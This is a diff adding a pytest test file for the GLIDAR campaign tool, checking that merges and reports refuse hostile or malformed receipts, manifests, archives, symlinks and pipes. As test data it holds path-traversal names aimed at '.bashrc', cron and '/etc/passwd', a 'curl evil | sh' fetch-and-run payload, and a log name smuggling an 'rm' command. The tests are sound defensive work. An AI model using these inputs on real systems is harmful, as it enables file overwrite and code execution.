@@ -1,0 +1,267 @@
+# SPDX-FileCopyrightText: 2026 The GLIDAR developers
+# SPDX-License-Identifier: BSD-3-Clause
+"""Parts of a campaign that come from somebody else: their receipts, manifests and files are checked before use."""
+
+import hashlib
+import json
+import os
+import shutil
+
+import numpy as np
+import pytest
+
+from glidar import Error
+from glidar.campaign import files, names, npz_output, records, report, run
+
+
+@pytest.fixture(scope="module")
+def parts(tmp_path_factory):
+    """Two parts and the whole of a small campaign; tests change copies."""
+    from campaign_support import Campaign
+
+    made = Campaign(tmp_path_factory.mktemp("parts"))
+    made.write("campaign.yaml", (made.folder / "campaign.yaml").read_text().replace("trials: 40", "trials: 8")
+               + "outputs: {npz: true, pcd: {every: 4}, kitti: true, tum: true, bop: true}\n")
+    for i in (0, 1):
+        run.run(made.folder / "campaign.yaml", made.folder / f"p{i}", run.Part(i, 2), workers=1, quiet=True)
+    run.merge([made.folder / "p0", made.folder / "p1"], made.folder / "whole")
+    return made.folder
+
+
+@pytest.fixture
+def folder(parts, tmp_path):
+    for name in ("p0", "p1", "whole"):
+        shutil.copytree(parts / name, tmp_path / name)
+    return tmp_path
+
+
+def change(path, edit):
+    """Edits a JSON file in place."""
+    value = json.loads(path.read_text())
+    edit(value)
+    path.write_text(json.dumps(value))
+
+
+def listing(data, name):
+    return {name: [hashlib.sha256(data).hexdigest(), len(data)]}
+
+
+def merge(folder):
+    return run.merge([folder / "p0", folder / "p1"], folder / "new")
+
+
+HOSTILE = ["../.bashrc", "/etc/cron.d/x", "npz/../../.bashrc", "campaign.json", "receipts/000000.json", "log/x.jsonl",
+           "npz/shard-000001-0123456789abcdef.npz\n", "npz/./shard-000001-0123456789abcdef.npz", "parts/000000.parquet",
+           "pcd/000000000.pcd", "kitti/velodyne/000000003.bin", "npz/shard-000001-0123456789abcdef.npz\0", "", "..",
+           "bop/train/000000/scene_gt.json", "bop/models/obj_000001.ply", "npz/shard-000001-0123456789ABCDEF.npz"]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_receipt_cannot_name_a_file_that_its_shard_does_not_write(folder, name):
+    evil = b"curl evil | sh"
+    (folder / ".bashrc").write_text("# my own")
+    change(folder / "p1" / "receipts" / "000001.json", lambda r: r["files"].update(listing(evil, name)))
+    with pytest.raises(Error, match="it lists the file .*files that shard 1 writes") as raised:
+        merge(folder)
+    assert raised.value.where.endswith("p1/receipts/000001.json") and "\n" not in str(raised.value)
+    assert (folder / ".bashrc").read_text() == "# my own"
+    assert not (folder / "new" / "manifest.json").exists()
+
+
+@pytest.mark.parametrize("name", ["../../x", "npz/../../secret", "/etc/passwd", "log/x.jsonl"])
+def test_a_manifest_cannot_name_files_that_no_campaign_writes(folder, name):
+    change(folder / "whole" / "manifest.json", lambda m: m["files"].update(listing(b"x", name)))
+    for use in (run.check, report.page):
+        with pytest.raises(Error, match="it lists the file"):
+            use(folder / "whole")
+
+
+def test_the_receipt_of_what_is_written_once_lists_models_only(folder):
+    change(folder / "p0" / "receipts" / "once-bop.json", lambda r: r["files"].update(listing(b"x", "campaign.json")))
+    with pytest.raises(Error, match="bop/models"):
+        merge(folder)
+
+
+@pytest.mark.parametrize("name", ["evil.json", "once-.json", "00001.json", "000001x.json"])
+def test_a_file_among_the_receipts_has_the_name_of_one(folder, name):
+    shutil.copy(folder / "p1" / "receipts" / "000001.json", folder / "p1" / "receipts" / name)
+    with pytest.raises(Error, match="a file among the receipts that is none"):
+        merge(folder)
+
+
+def test_a_receipt_of_a_shard_that_the_campaign_does_not_have_is_refused(folder):
+    shutil.copy(folder / "p1" / "receipts" / "000001.json", folder / "p1" / "receipts" / "000002.json")
+    with pytest.raises(Error, match="a receipt of shard 2; allowed: shards from 0 to 1"):
+        merge(folder)
+
+
+@pytest.mark.parametrize("root", ["p1", "new"])
+def test_links_out_of_a_campaign_are_not_followed(folder, root):
+    outside = folder / "outside"
+    (folder / root).mkdir(exist_ok=True)
+    if root == "new":
+        outside.mkdir()
+        shutil.copy(folder / "p0" / "campaign.json", folder / "new")
+    else:
+        (folder / "p1" / "npz").rename(outside)
+    (folder / root / "npz").symlink_to(outside)
+    before = sorted(outside.iterdir())
+    with pytest.raises(Error, match="a link leads out of the campaign's folder"):
+        merge(folder)
+    assert sorted(outside.iterdir()) == before
+
+
+def test_pipes_and_devices_in_a_part_are_refused_and_do_not_block(folder):
+    victim = next((folder / "p1" / "npz").iterdir())
+    victim.unlink()
+    os.mkfifo(victim)
+    with pytest.raises(Error, match="a pipe or a device"):
+        merge(folder)
+    for name in ("receipts/000001.json", "campaign.json"):
+        (folder / "p1" / name).unlink()
+        os.mkfifo(folder / "p1" / name)
+    with pytest.raises(Error, match="it holds no campaign|a pipe or a device"):
+        merge(folder)
+    with pytest.raises(Error, match="a pipe or a device"):
+        files.hash_file("/dev/zero")
+
+
+def test_only_logs_are_taken_over_as_logs(folder):
+    (folder / "p1" / "log" / ".x;rm.jsonl").write_text("{}")
+    merge(folder)
+    taken = {path.name for path in (folder / "new" / "log").iterdir()}
+    assert taken and all(names.is_log(name) for name in taken)
+
+
+MALFORMED = {
+    "campaign.json": [
+        (("shards",), 10**30), (("trials",), 10**30), (("trials",), 1 << 32), (("shard_trials",), 0),
+        (("shards",), -1), (("shards",), "2"), (("shards",), True), (("hash",), "../x"), (("plan",), []),
+        (("plan", "campaign", "outputs"), None), (("plan", "campaign", "outputs", "tum"), 1),
+        (("plan", "scenes"), {}), (("plan", "scenes"), [3]), (("one_shape",), None),
+        (("plan", "campaign", "pose", "orientation"), 7)],
+    "receipts/000001.json": [
+        (("trials",), 10**30), (("trials",), 3), (("failed",), 5), (("failed",), -1), (("files",), []), (("shard",), 0),
+        (("files",), {"parts/000001.parquet": "x"}), (("files",), {"parts/000001.parquet": ["x", 1]}),
+        (("files",), {"parts/000001.parquet": ["0" * 64, 1.5]}), (("files",), {"parts/000001.parquet": ["0" * 64]})],
+}
+
+
+@pytest.mark.parametrize("name, keys, value",
+                         [(name, *case) for name, cases in MALFORMED.items() for case in cases])
+def test_a_malformed_record_is_an_error_that_names_its_place(folder, name, keys, value):
+    def edit(record):
+        for key in keys[:-1]:
+            record = record[key]
+        record[keys[-1]] = value
+
+    change(folder / "p1" / name, edit)
+    with pytest.raises(Error) as raised:
+        merge(folder)
+    assert name in raised.value.where and raised.value.found
+
+
+@pytest.mark.parametrize("text, words", [
+    ("[" * 100_000, "nested too deeply|no JSON"), ("[" * 500 + "]" * 500, "nested too deeply"),
+    ('{"a": NaN}', "NaN"), ("\ufffe", "no JSON"), ('{"x": ' + "9" * 5000 + "}", "no JSON"), ("[1, 2]", "it is \\[1, 2\\]"),
+    ("{}", "the key 'hash' is missing"), ('"' + "y" * 10_000 + '"', "yyy")])
+@pytest.mark.parametrize("name", ["campaign.json", "receipts/000001.json", "manifest.json"])
+def test_what_is_no_record_is_an_error_that_quotes_little(folder, name, text, words):
+    (folder / "whole" / name).write_text(text)
+    with pytest.raises(Error, match=words if name == "campaign.json" else None) as raised:
+        run.check(folder / "whole")
+        run.merge([folder / "whole"], folder / "new")
+    assert len(raised.value.found) < 300 and "\n" not in str(raised.value)
+
+
+def test_records_that_are_not_utf8_are_errors(folder):
+    (folder / "whole" / "manifest.json").write_bytes(b'{"campaign": "\xff\xfe\xff"}')
+    with pytest.raises(Error, match="no JSON"):
+        run.check(folder / "whole")
+
+
+def test_a_campaign_that_would_have_too_many_shards_is_refused_at_once(parts, tmp_path):
+    shutil.copytree(parts, tmp_path / "c")
+    path = tmp_path / "c" / "campaign.yaml"
+    text = path.read_text().replace("trials: 8", "trials: 4294967296").replace("shard_trials: 4", "shard_trials: 1")
+    path.write_text(text)
+    with pytest.raises(Error, match="at most 4194304 shards; set shard_trials to 1024 or more"):
+        run.run(path, tmp_path / "out", quiet=True)
+
+
+def test_a_merge_counts_missing_shards_by_the_receipts_that_are_there(folder):
+    def edit(record):
+        record.update(trials=1 << 32, shard_trials=1024, shards=1 << 22)
+
+    for part in ("p0", "p1"):
+        change(folder / part / "campaign.json", edit)
+        shutil.rmtree(folder / part / "receipts")
+    assert merge(folder).missing == 1 << 22
+
+
+@pytest.mark.parametrize("content", [b"", b"PAR1", b"\xff" * 100])
+def test_an_index_that_is_none_is_an_error(folder, content):
+    (folder / "whole" / "index.parquet").write_bytes(content)
+    with pytest.raises(Error, match="it is no index of trials"):
+        report.page(folder / "whole")
+
+
+def test_an_index_with_other_columns_is_an_error(folder):
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    table = pq.read_table(folder / "whole" / "index.parquet")
+    for name, values in (("shard", pa.array(["../../x"] * len(table))), ("trial", pa.array([None] * len(table), pa.int64()))):
+        place = table.schema.get_field_index(name)
+        pq.write_table(table.set_column(place, name, values), folder / "whole" / "index.parquet")
+        with pytest.raises(Error, match=f"column {name}"):
+            report.page(folder / "whole")
+
+
+def test_logs_of_any_content_leave_the_report_as_it_is(folder):
+    (folder / "whole" / "log" / "x.jsonl").write_bytes(
+        b'\xff\n[1]\n{"shard": 1}\n{"time_s": "x"}\n{"time_s": NaN}\n{"shard": 1, "time_s": 1, "seconds": [], "trials": 1}\n'
+        + b"[" * 100_000)
+    assert "<h2>Speed</h2>" in report.page(folder / "whole")
+
+
+@pytest.mark.parametrize("member", ["../x.npy", "/etc/x.npy", "range", "a" * 100 + ".npy", "RANGE.npy", "x\n.npy"])
+def test_an_archive_has_members_with_names_of_columns(folder, member):
+    import zipfile
+
+    path = folder / "x.npz"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr(member, b"x")
+    with pytest.raises(Error, match="names of columns"), npz_output.opened(path):
+        pass
+
+
+def test_an_archive_that_is_damaged_is_an_error(folder):
+    victim = next((folder / "whole" / "npz").iterdir())
+    data = bytearray(victim.read_bytes())
+    data[200:] = b"\xff" * (len(data) - 200)
+    for content in (bytes(data), b"", b"PK\x03\x04", np.arange(3).tobytes()):
+        victim.write_bytes(content)
+        with pytest.raises(Error, match=victim.name):
+            report.page(folder / "whole")
+
+
+def test_records_of_a_run_pass_their_own_checks(folder):
+    described = records.read_campaign(folder / "whole" / "campaign.json")
+    assert [records.read_receipt(path, described)["trials"] for path in records.receipts_in(folder / "whole")] == [4, 4, 0]
+    assert records.read_manifest(folder / "whole" / "manifest.json")["trials"] == 8
+    count, wrong = run.check(folder / "whole")
+    assert count > 60 and not wrong
+
+
+@pytest.mark.parametrize("value", [10**30, None, 3.5, "a\0b", "\ud800", "x" * 10_000, []])
+def test_odd_paths_and_counts_are_errors(folder, value):
+    for use in (lambda: run.run(value, folder / "out", quiet=True), lambda: run.check(value), lambda: report.page(value),
+                lambda: run.merge([value], folder / "out"), lambda: run.merge([folder / "p0"], value),
+                lambda: run.Part(value, 2), lambda: run.Part(0, value),
+                lambda: run.run(folder / "none.yaml", folder / "out", workers=value, quiet=True)):
+        with pytest.raises(Error):
+            use()
+    for index, count in ((0, 0), (2, 2), (-1, 2)):
+        with pytest.raises(Error):
+            run.Part(index, count)
